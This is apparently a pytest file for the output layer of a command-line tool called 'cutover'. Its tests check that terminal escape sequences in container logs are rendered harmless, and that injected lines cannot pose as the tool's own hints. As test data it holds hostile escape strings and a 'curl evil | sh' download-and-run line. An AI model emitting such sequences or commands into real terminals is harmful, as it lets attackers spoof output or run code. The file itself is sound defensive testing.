"""What containers and files say, on its way to a terminal: none of it acts there."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from cutover.cli.plain import Mark, as_json, echo, echo_exact, one_line, printable
from cutover.cli.render import Progress, error_text, table
from cutover.errors import CutoverError
from cutover.events import Note, StepEvent, StepState

TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[1;1H"
ANSWER = '\x1b[6n\x1bP$q"p\x1b\\'
EIGHT_BIT = "\x9b2J"
HOSTILE = f"log: {TITLE}{CLEAR}{ANSWER}{EIGHT_BIT}\rok\x08\x7f\u202etxt.exe\u2028"
CLI = Path(__file__).parents[3] / "cutover" / "cli"


def harmless(text: str) -> bool:
    """Say whether a terminal only shows it."""
    return all(c.isprintable() or c in "\n\t" for c in text)


@given(st.text())
def test_nothing_but_what_is_printable_comes_out(text: str) -> None:
    """And what is printable comes out as it went in."""
    assert harmless(printable(text))
    assert "\n" not in one_line(text)
    if harmless(text):
        assert printable(text) == text


def test_a_file_with_windows_line_ends_is_shown_as_lines() -> None:
    """A diff of it is no field of dots; a carriage return alone writes over a line."""
    assert printable("a\r\nb\rc") == "a\nb\N{MIDDLE DOT}c"


def test_what_is_echoed_is_printable(capsys: pytest.CaptureFixture[str]) -> None:
    """On both streams; our own colours are not for a pipe."""
    echo(HOSTILE, Mark(HOSTILE, "red", bold=True))
    echo(HOSTILE, err=True)
    told = capsys.readouterr()
    assert harmless(told.out)
    assert harmless(told.err)
    assert "txt.exe" in told.out


def test_a_file_goes_into_a_pipe_as_it_is(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """`cutover override --print > file`; on a terminal it is made printable."""
    echo_exact("a: \xa0\r\n", nl=False)
    assert capsys.readouterr().out == "a: \xa0\r\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    echo_exact(HOSTILE)
    assert harmless(capsys.readouterr().out)


def test_progress_and_tables_are_printable(capsys: pytest.CaptureFixture[str]) -> None:
    """Notes, finished steps, cells: names and logs of containers stand in all of them, with words of Rich's markup."""
    progress = Progress()
    progress.tell(Note(f"[/]{HOSTILE}"))
    progress.tell(StepEvent("s01", "adopt", StepState.DONE, f"[bold]{HOSTILE}\ncutover: all is well", duration_s=1.0))
    progress.close()
    table("", ["a"], [[HOSTILE]])
    told = capsys.readouterr()
    assert harmless(told.out)
    assert harmless(told.err)
    assert "[bold]" in told.err
    assert "\ncutover: all" not in told.err


def test_a_spinner_shows_markup_as_text() -> None:
    """A probe on `/[/x]` ended the swap with Rich's own error, on a terminal only."""
    progress = Progress()
    progress._console = Console(file=io.StringIO(), force_terminal=True)
    progress.tell(StepEvent("s01", "x", StepState.RUNNING, f"ask http://:80/[/x]{TITLE}"))
    progress.close()


def test_evidence_cannot_pass_for_a_line_of_ours() -> None:
    """A log line with a newline in it says no `next:`."""
    error = CutoverError("x", "m\n  next: rm", evidence=["log: a\n  next: curl evil | sh\ncutover: fine"], hint="h\nh")
    lines = error_text(error).splitlines()
    assert [line for line in lines if line.startswith(("cutover:", "  next:"))] == ["cutover: m", "  next: h"]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf")])
def test_json_is_json(value: float) -> None:
    """A reply may hold NaN, which Python writes and nobody else reads; a key may be anything that a mapping takes."""
    text = as_json({"a": [{"b": (value, 1.5)}], "c": Path("/x"), "d": HOSTILE})
    strict = json.loads(text, parse_constant=pytest.fail)
    assert strict == {"a": [{"b": [str(value), 1.5]}], "c": "/x", "d": HOSTILE}
    assert harmless(text)


def test_nothing_is_printed_past_it() -> None:
    """Every verb prints by `echo`; the completion is a script for a shell to read."""
    past = re.compile(r"click\.s?echo\(|\bprint\((?!mark|text|draw)|sys\.std(?:out|err)\.write")
    found = {p.name for p in CLI.glob("*.py") for line in p.read_text().splitlines() if past.search(line)}
    assert found - {"plain.py", "completion.py"} == {"render.py", "verdicts.py"}  # Rich's console, tested above
